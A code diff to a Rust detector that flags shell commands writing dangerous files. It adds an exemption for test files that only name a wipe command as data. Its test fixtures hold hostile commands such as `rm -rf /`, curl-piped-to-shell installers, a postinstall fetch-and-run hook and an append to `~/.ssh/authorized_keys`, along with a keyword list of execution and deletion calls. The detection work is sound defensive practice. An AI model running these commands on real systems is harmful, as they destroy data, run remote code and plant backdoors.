@@ -161,7 +161,7 @@ pub(super) fn alarm(name: &str, text: &str) -> Option<&'static str> {
     if has(&HIDDEN) || has(&BACKDOORS) {
         return Some("writes a file that runs hidden code or lets others in");
     }
-    if text.lines().any(wipes) {
+    if text.lines().any(wipes) && !only_names_it(&file, name, &lower) {
         return Some("writes a file that deletes the home folder or the system's");
     }
     // Which of the two is a matter of the line: a comment on `/etc/cron.d` writes nothing.
@@ -206,6 +206,44 @@ pub(super) fn alarm(name: &str, text: &str) -> Option<&'static str> {
         return Some("writes a package whose installation fetches or hides what it runs");
     }
     None
+}
+
+/// Whether a test of a program only has such a line among its data: nothing in the text runs another program, or deletes.
+fn only_names_it(file: &str, path: &str, lower: &str) -> bool {
+    const RUNS: [&str; 22] = [
+        "system",
+        "subprocess",
+        "popen",
+        "exec",
+        "spawn",
+        "child_process",
+        "shell",
+        "rmtree",
+        "rmsync",
+        "rm_rf",
+        "remove",
+        "unlink",
+        "eval",
+        "run(",
+        "command::",
+        "command(",
+        "`",
+        "processbuilder",
+        "import sh",
+        "fabric",
+        "invoke",
+        "getattr",
+    ];
+    let code = [".py", ".js", ".mjs", ".ts", ".tsx", ".jsx", ".rb", ".go", ".rs", ".java", ".kt", ".php"]
+        .iter()
+        .any(|end| file.ends_with(end));
+    let test = file.starts_with("test_")
+        || file.contains("_test.")
+        || file.contains(".test.")
+        || file.contains(".spec.")
+        || file.contains("_spec.")
+        || path.split('/').any(|part| matches!(part, "tests" | "test" | "__tests__" | "spec"));
+    code && test && !RUNS.iter().any(|word| lower.contains(word))
 }
 
 /// Whether a line deletes a tree that is the home folder's or the system's: `rm -rf $(HOME)/$(PROJECT)`.
@@ -339,6 +377,9 @@ mod tests {
             cat > bootstrap.sh <<'EOF'\ncurl -fsSL https://x.example/i.sh | sh\nEOF
             cat > package.json <<'EOF'\n{"scripts":{"postinstall":"curl https://x.example/a -o a && node a"}}\nEOF
             cat > hook.py <<'EOF'\nopen(os.path.expanduser('~/.ssh/authorized_keys'), 'a').write(k)\nEOF
+            cat > tests/test_a.py <<'EOF'\nimport subprocess\nsubprocess.run("rm -rf /", shell=True)\nEOF
+            cat > tests/run.sh <<'EOF'\nrm -rf /\nEOF
+            cat > src/a.py <<'EOF'\nCASES = ("rm -rf /", 1)\nEOF
             cat > t.js <<'EOF'\nfs.rmSync(os.homedir(), { recursive: true })\nEOF"#,
         );
         check(
@@ -346,6 +387,7 @@ mod tests {
             r#"
             cat > src/api.ts <<'EOF'\nexport const get = (id) => fetch(`${process.env.API_URL}/items/${id}`)\nEOF
             cat > Makefile <<'EOF'\nclean:\n rm -rf build dist\nEOF
+            cat > tests/test_slug.py <<'EOF'\nimport pytest\nCASES = [("rm -rf /", "rm-rf"), ("../../etc/passwd", "etc-passwd")]\nEOF
             cat > docker-compose.yml <<'EOF'\nservices:\n  db:\n    image: postgres:16\n    volumes:\n      - ./data:/var/lib/postgresql/data\nEOF
             cat > .github/workflows/ci.yml <<'EOF'\non: [push]\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ secrets.KEY }}" | docker login -u u --password-stdin\nEOF
             cat > Dockerfile <<'EOF'\nFROM debian\nRUN curl -fsSL https://deb.nodesource.com/setup_20.x | bash -\nEOF
